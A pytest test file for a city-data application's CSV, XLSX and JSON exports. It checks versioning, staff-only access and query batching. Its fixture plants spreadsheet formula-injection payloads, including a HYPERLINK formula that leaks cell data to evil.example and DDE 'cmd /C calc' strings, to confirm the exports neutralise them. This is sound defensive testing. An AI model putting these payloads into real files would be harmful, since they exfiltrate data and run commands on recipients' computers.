"""Every city's data as CSV, XLSX and JSON: versions in each, formulas never run."""

from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from forms.catalog.loading import load_catalog
from intake.extensions import db
from intake.models.values import DataValue
from intake.services import values as value_service
from intake.services.cities import create_city
from intake.services.exports import ALL_COLUMNS, export_csv, export_json, export_xlsx
from tests.intake.test_accounts import make_staff, sign_in
from tests.intake.test_api_auth import bearer, staff_with_token

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE_SOURCE = "+cmd|' /C calc'!A0"
HOSTILE = {"hh_internet": "@SUM(1+1)*cmd|' /C calc'!A0", "hh_total": "-2+3",
           "city_area": "\t=1+1", "city_gdp": "\r=2"}


@pytest.fixture
def cities(app):
    evil = create_city(name=HOSTILE_NAME, population=50_000, country="FR")
    value_service.set_city_values(evil.id, {"pop": 50_000}, actor="city",
                                  provenance={"hh_internet": {"source": HOSTILE_SOURCE}})
    for dp_id, text in HOSTILE.items():
        # Drafts that do not parse are exported as typed.
        db.session.add(DataValue(city_id=evil.id, data_point_id=dp_id, raw_text=text,
                                 valid=False, version=1))
    db.session.commit()
    calm = create_city(name="Bizerte", population=142_966, country="TN")
    value_service.set_city_values(calm.id, {"pop": 142_966, "hh_internet": -0.0 + 5}, actor="c")
    return evil, calm


def test_xlsx_keeps_hostile_text_as_text_and_has_versions(cities):
    book = load_workbook(io.BytesIO(export_xlsx()))
    assert book.sheetnames == ["About", "Data", "Local KPIs"]  # local KPIs: a sheet of their own
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                seen.add(cell.value)
    assert HOSTILE_NAME in seen and HOSTILE_SOURCE in seen
    assert set(HOSTILE.values()) <= seen
    about = {row[0].value: row[1].value for row in book["About"].iter_rows()}
    catalog = load_catalog()
    assert about["catalog_version"] == catalog.version
    assert about["benchmark_version"] == catalog.benchmark_version
    data = book["Data"]
    header = [cell.value for cell in data[1]]
    assert header == list(ALL_COLUMNS)
    rows = [dict(zip(header, (c.value for c in row), strict=True))
            for row in data.iter_rows(min_row=2)]
    assert {row["catalog_version"] for row in rows} == {catalog.version}
    assert {row["city_name"] for row in rows} == {HOSTILE_NAME, "Bizerte"}
    pop = [row["value"] for row in rows if row["data_point"] == "pop"]
    assert sorted(pop) == [50_000, 142_966]  # numbers stay numbers


def test_csv_prefixes_formula_text_and_has_versions(cities):
    raw = export_csv()
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    catalog = load_catalog()
    assert {row["catalog_version"] for row in rows} == {catalog.version}
    assert {row["benchmark_version"] for row in rows} == {catalog.benchmark_version}
    evil = [row for row in rows if row["city_name"] != "Bizerte"]
    assert {row["city_name"] for row in evil} == {"'" + HOSTILE_NAME}
    by_dp = {row["data_point"]: row for row in evil}
    for dp_id, text in HOSTILE.items():
        assert by_dp[dp_id]["value"] == "'" + text
    assert by_dp["hh_internet"]["source"] == "'" + HOSTILE_SOURCE
    # Every cell a spreadsheet would read as a formula is neutralised.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_json_keeps_text_exact_with_versions(cities):
    payload = json.loads(export_json())
    catalog = load_catalog()
    assert payload["catalog_version"] == catalog.version
    assert payload["benchmark_version"] == catalog.benchmark_version
    names = [city["name"] for city in payload["cities"]]
    assert names == sorted(names) and HOSTILE_NAME in names
    evil = next(city for city in payload["cities"] if city["name"] == HOSTILE_NAME)
    values = {row["data_point"]: row["value"] for row in evil["values"]}
    for dp_id, text in HOSTILE.items():
        assert values[dp_id] == text
    assert values["pop"] == 50_000


def test_empty_programme_exports_headers_only(app):
    rows = list(csv.reader(io.StringIO(export_csv().decode("utf-8-sig"))))
    assert rows == [list(ALL_COLUMNS)]
    assert json.loads(export_json())["cities"] == []
    assert load_workbook(io.BytesIO(export_xlsx()))["Data"].max_row == 1


def test_export_page_links_and_downloads(app, client, cities):
    make_staff()
    sign_in(client)
    page = client.get("/staff/exports/")
    assert page.status_code == 200
    for fmt in ("csv", "xlsx", "json"):
        assert f'href="/staff/exports/cities.{fmt}"' in page.text
    assert load_catalog().version in page.text
    download = client.get("/staff/exports/cities.xlsx")
    assert download.status_code == 200
    assert "attachment" in download.headers["Content-Disposition"]
    assert load_workbook(io.BytesIO(download.data))["Data"].max_row > 1
    assert client.get("/staff/exports/cities.exe").status_code == 404


def test_export_page_is_for_the_secretariat_only(app, client):
    make_staff(email="ver@example.org", role="verifier")
    assert client.get("/staff/exports/").status_code in (302, 401)
    sign_in(client, email="ver@example.org")
    assert client.get("/staff/exports/").status_code == 403
    assert client.get("/staff/exports/cities.csv").status_code == 403


@pytest.mark.parametrize("fmt,media", [("csv", "text/csv"), ("json", "application/json"),
                                       ("xlsx", "application/vnd.openxmlformats")])
def test_api_exports(app, client, cities, fmt, media):
    _user, token = staff_with_token(email="api@example.org")
    response = client.get(f"/api/v1/exports/cities.{fmt}", headers=bearer(token))
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith(media)
    assert "attachment" in response.headers["Content-Disposition"]
    assert client.get(f"/api/v1/exports/cities.{fmt}").status_code == 401


@pytest.mark.browser
def test_secretariat_downloads_the_workbook_in_chromium(sqlite_app):
    from tests.browser import chromium, live_server, screenshot, watch_console
    from tests.intake.test_accounts import PASSWORD

    make_staff()
    create_city(name=HOSTILE_NAME, population=50_000, country="FR")
    db.session.close()  # SQLite: hold no transaction while the server reads
    with live_server(sqlite_app) as base, chromium(accept_downloads=True,
                                                   viewport={"width": 1280, "height": 800}) as c:
        page = c.new_page()
        problems = watch_console(page)
        page.goto(f"{base}/language/en?next=/staff/")
        page.get_by_label("E-mail address").fill("sec@example.org")
        page.get_by_label("Password").fill(PASSWORD)
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_url(f"{base}/staff/")
        page.get_by_role("link", name="Exports").click()
        page.wait_for_url(f"{base}/staff/exports/")
        screenshot(page, "staff-exports-en")
        with page.expect_download() as download_info:
            page.get_by_role("link", name="Excel workbook (XLSX)").click()
        download = download_info.value
        assert download.suggested_filename.endswith(".xlsx")
        with open(download.path(), "rb") as handle:
            book = load_workbook(io.BytesIO(handle.read()))
        names = {cell.value for row in book["Data"].iter_rows() for cell in row}
        assert HOSTILE_NAME in names
        page.goto(f"{base}/language/ar?next=/staff/exports/")
        assert page.locator("html").get_attribute("dir") == "rtl"
        screenshot(page, "staff-exports-ar")
        assert problems == []


def test_exports_stream_city_by_city_with_the_lists_filters(app, client):
    from intake.demo_bulk import load_bulk_cities

    load_bulk_cities(9)
    _user, token = staff_with_token(email="api@example.org")
    response = client.get("/api/v1/exports/cities.jsonl", headers=bearer(token),
                          buffered=False)
    assert response.is_streamed
    lines = [json.loads(line) for line in response.get_data(as_text=True).splitlines()]
    response.close()
    assert lines[0]["catalog_version"] == load_catalog().version
    assert len(lines) == 10 and all(len(city["values"]) > 100 for city in lines[1:])
    verified = client.get("/api/v1/exports/cities.jsonl?stage=verified",
                          headers=bearer(token)).get_data(as_text=True).splitlines()[1:]
    assert verified and {json.loads(line)["stage"] for line in verified} == {"verified"}
    for fmt in ("csv", "json", "xlsx"):
        response = client.get(f"/api/v1/exports/cities.{fmt}?stage=verified",
                              headers=bearer(token), buffered=False)
        assert response.is_streamed and response.status_code == 200
        assert response.get_data()
        response.close()
    rows = list(csv.DictReader(io.StringIO(client.get(
        "/api/v1/exports/cities.csv?stage=verified", headers=bearer(token)).data.decode(
        "utf-8-sig"))))
    assert {row["stage"] for row in rows} == {"verified"}
    payload = json.loads(client.get("/api/v1/exports/cities.json",
                                    headers=bearer(token)).data)
    assert len(payload["cities"]) == 9


def test_exports_read_cities_in_batches_not_one_query_per_city(app):
    from intake.demo_bulk import load_bulk_cities
    from intake.services import exports
    from tests.intake.test_lists_at_scale import QueryCounter

    load_bulk_cities(12)
    with QueryCounter(db.engine) as small:
        assert export_csv()
    load_bulk_cities(30)
    with QueryCounter(db.engine) as large:
        exports.export_csv()
    assert large.count == small.count  # 42 cities fit one batch of BATCH
